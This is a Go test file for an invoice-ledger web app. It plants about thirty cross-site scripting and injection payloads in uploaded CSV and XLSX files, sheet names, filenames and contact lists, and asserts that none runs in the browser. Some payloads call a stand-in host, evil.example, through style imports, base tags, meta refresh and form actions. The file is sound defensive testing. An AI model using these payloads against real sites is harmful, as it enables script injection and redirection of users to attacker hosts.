package web

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/recoup-project/recoup/internal/app"
	"github.com/recoup-project/recoup/internal/browser"
	"github.com/recoup-project/recoup/internal/core/access"
)

// hostile are texts that run in pages that write them down unescaped: as markup, in an
// attribute, an address, a script, a style, a template, or after a change of encoding.
var hostile = []string{
	`<script>window.__ran=1</script>`, `<img src=x onerror="window.__ran=1">`, `"><svg onload=window.__ran=1>`,
	`' autofocus onfocus=window.__ran=1 x='`, `" autofocus onfocus="window.__ran=1`, `javascript:window.__ran=1`,
	`</textarea><script>window.__ran=1</script>`, `</title><script>window.__ran=1</script>`, `</select><img src=x onerror=window.__ran=1>`,
	`<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`, `<a href="javascript:window.__ran=1">x</a>`, `<details open ontoggle=window.__ran=1>`,
	`<style>@import url(//evil.example/x)</style>`, `<link rel=stylesheet href=//evil.example/x>`, `<base href=//evil.example/>`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action=//evil.example><input name=q>`, `{{constructor.constructor('window.__ran=1')()}}`,
	`${window.__ran=1}`, `<div data-hx-get="//evil.example" data-hx-trigger="load">`, `<div hx-on:load="window.__ran=1">`,
	"<scr\x00ipt>window.__ran=1</script>", `<math><mtext><script>window.__ran=1</script>`, `]]><script>window.__ran=1</script>`,
	`--><script>window.__ran=1</script>`, `%3Cscript%3Ewindow.__ran=1%3C/script%3E`, `&lt;script&gt;window.__ran=1&lt;/script&gt;`,
	`\u003cscript\u003ewindow.__ran=1`, `=HYPERLINK("javascript:window.__ran=1")`, `<object data="data:text/html,<script>parent.__ran=1</script>">`,
}

// hostileLedger has a payload in every text of every row, and in its headings.
func hostileLedger() []byte {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.Write([]string{"Customer number", "Customer name", "Email", "Document number", "Invoice date", "Due date", "Currency", "Amount", "PO",
		hostile[0], hostile[4]})
	for i, x := range hostile {
		n := fmt.Sprint(i)
		w.Write([]string{x + n, x, "ap" + n + "@customer.example", "R" + n + x, "2026-01-05", "2026-02-05", "GBP", "10" + n + ".00", x, x, x})
		w.Write([]string{x + n, x, "", "Q" + x, x, "2026-02-05", "GBP", x, x, x, x}) // rejected
	}
	w.Flush()
	return b.Bytes()
}

// hostileBook is a workbook whose sheets have payloads for names.
func hostileBook(t *testing.T) []byte {
	t.Helper()
	esc := func(s string) string {
		var b bytes.Buffer
		if err := xml.EscapeText(&b, []byte(s)); err != nil {
			t.Fatal(err)
		}
		return b.String()
	}
	sheet := func() string {
		rows := ""
		for _, r := range [][]string{{"Customer number", "Invoice number", "Due date", "Currency", "Amount"}, {"C1", "R1", "2026-02-05", "GBP", "10.00"}} {
			rows += "<row>"
			for _, c := range r {
				rows += `<c t="inlineStr"><is><t>` + esc(c) + `</t></is></c>`
			}
			rows += "</row>"
		}
		return `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` + rows + `</sheetData></worksheet>`
	}
	const rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
	const pkg = "http://schemas.openxmlformats.org/package/2006/"
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for name, text := range map[string]string{
		"[Content_Types].xml": `<Types xmlns="` + pkg + `content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`,
		"_rels/.rels":         `<Relationships xmlns="` + pkg + `relationships"><Relationship Id="r1" Type="` + rel + `/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
		"xl/workbook.xml": `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="` + rel + `"><sheets><sheet name="` +
			esc(hostile[1]) + `" sheetId="1" r:id="r1"/><sheet name="` + esc(hostile[4]) + `" sheetId="2" r:id="r2"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels": `<Relationships xmlns="` + pkg + `relationships"><Relationship Id="r1" Type="` + rel +
			`/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="` + rel + `/worksheet" Target="worksheets/sheet2.xml"/></Relationships>`,
		"xl/worksheets/sheet1.xml": sheet(), "xl/worksheets/sheet2.xml": sheet(),
	} {
		w, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestHostileFiles: whatever stands in a file, nothing of it runs on any page that shows it,
// and the browser has no reason to complain, of the content security policy least of all.
func TestHostileFiles(t *testing.T) {
	s := newSite(t)
	s.user(access.Owner)
	ctx := t.Context()
	give := func(name string, data []byte) int64 {
		id, err := s.app.CreateDraft(ctx, app.NewDraft{Name: name, Bytes: data})
		if err != nil {
			t.Fatal(err)
		}
		return id
	}
	ledger := give(hostile[1]+".csv", hostileLedger())
	workbook := give(hostile[2]+".xlsx", hostileBook(t))
	p := browser.Start(t).Page(t, s.URL)
	p.Cookie(s.session("owner"))
	calm := func(path string) {
		t.Helper()
		if path != "" {
			p.Open(path)
		}
		if browser.Eval[bool](p, "window.__ran !== undefined") {
			t.Errorf("%s ran a text of the file", p.Location())
		}
		if host := browser.Eval[string](p, "location.origin"); host != s.URL {
			t.Fatalf("the browser is at %s", host)
		}
	}
	calm("/import")
	calm(draftPath(workbook))
	p.Reads("Several sheets")
	calm(draftPath(ledger))
	p.Reads("Correct these rows here", "javascript:")
	p.Fill("As of", "2026-03-09").Until("it is looked at anew", `!document.querySelector(".htmx-request")`)
	calm("")
	p.Follow("Bring it in")
	calm("")
	calm("/start")
	if _, err := s.app.AddPapers(ctx, system, app.PapersRequest{Files: []app.PaperFile{{Name: hostile[1] + ".pdf", Bytes: []byte("%PDF-1.4 nothing")},
		{Name: hostile[4] + ".txt", Bytes: []byte("x")}}}); err != nil {
		t.Fatal(err)
	}
	calm("/papers")
	p.Open("/start/addresses").Fill("One contact a line", strings.Join(hostile, "\n"))
	p.Follow("Look first")
	calm("")
	s.run()
	for _, path := range []string{"/today", "/customers", "/messages", "/audit"} {
		calm(path)
	}
	list, err := s.app.Customers(ctx, "")
	if err != nil || len(list) < len(hostile)/2 {
		t.Fatalf("%d customers, %v", len(list), err)
	}
	for _, c := range list {
		calm(customerPath(c.ID))
	}
	mails, err := s.app.Outbox(ctx, app.OutboxFilter{})
	if err != nil || len(mails) == 0 {
		t.Fatalf("%d messages, %v", len(mails), err)
	}
	for _, m := range mails {
		calm(messagePath(m.ID))
		calm(messagePath(m.ID) + "/body")
	}
}

// TestUploads: several files go each their way, one that is too large says so and nothing of
// it is there, and an empty one stops the others too.
func TestUploads(t *testing.T) {
	s := newSite(t)
	s.user(access.Owner)
	s.ledger(smallLedger)
	dir := t.TempDir()
	file := func(name string, data []byte) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, data, 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	p := browser.Start(t).Page(t, s.URL)
	p.Cookie(s.session("owner"))
	p.Open("/import").Give("Files", file("INV-1.pdf", []byte("%PDF-1.4 one")), file("scan.pdf", []byte("%PDF-1.4 two")), file("list.csv", []byte(waitingList)))
	p.Reads("1 of 2 papers matched", "1 waits for you").Open("/papers").Reads("scan.pdf").Fill("Belongs to", "INV-2")
	p.Follow("Keep it there").Reads("Kept with INV-2", "No paper waits")
	p.Open("/import").Reads("list.csv").Follow("Go on").Reads("Looks like").Follow("Put away").Reads("Nothing of the file was taken in")
	p.Give("Files", file("empty.csv", nil), file("list2.csv", []byte(waitingList)))
	p.Reads("empty.csv is empty, so nothing was taken in")
	p.Troubles() // 422 is an error to the browser
	if drafts, err := s.app.Drafts(t.Context(), ""); err != nil || len(drafts) != 0 {
		t.Errorf("%d drafts, %v", len(drafts), err)
	}
	large := file("large.csv", bytes.Repeat([]byte("0123456789abcde\n"), 70<<16))
	p.Open("/import").Upload("Files", large).Until("the page says it", `!document.querySelector("[data-too-large]").hidden`)
	browser.Eval[bool](p, `document.querySelector("#files").removeAttribute("data-max"), true`)
	p.Give("Files", large)
	p.Reads("more than 64 MB together, so nothing was taken in")
	p.Troubles()
	if drafts, err := s.app.Drafts(t.Context(), ""); err != nil || len(drafts) != 0 {
		t.Errorf("%d drafts, %v", len(drafts), err)
	}
}

// TestContactsFile: a second file with addresses is joined, and the draft is there.
func TestContactsFile(t *testing.T) {
	s := newSite(t)
	s.user(access.Owner)
	s.ledger(smallLedger)
	dir := t.TempDir()
	path := filepath.Join(dir, "people.csv")
	if err := os.WriteFile(path, []byte("Customer number,Contact,Email\nC-3,Dana Wells,dana@wells.example\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	p := browser.Start(t).Page(t, s.URL)
	p.Cookie(s.session("owner"))
	p.Open("/start").Reads("1 of 2 customers who owe GBP have no email address", "Largest without: Dana Wells")
	p.Give("Files", path).Reads("1 row of people and addresses", "dana@wells.example").Follow("Bring it in").Reads("1 new contact", "can be written to")
	p.Open("/settings/mail?provider=fastmail").Reads("Make an app password").Fill("Sign in as", "ann@harbour.example").Fill("Password", "app pass/word")
	p.Fill("Mails come from", "ann@harbour.example").Follow("Keep").Reads("Kept. Look now")
	if strings.Contains(p.Text(), "pass/word") {
		t.Error("the page shows the password")
	}
}
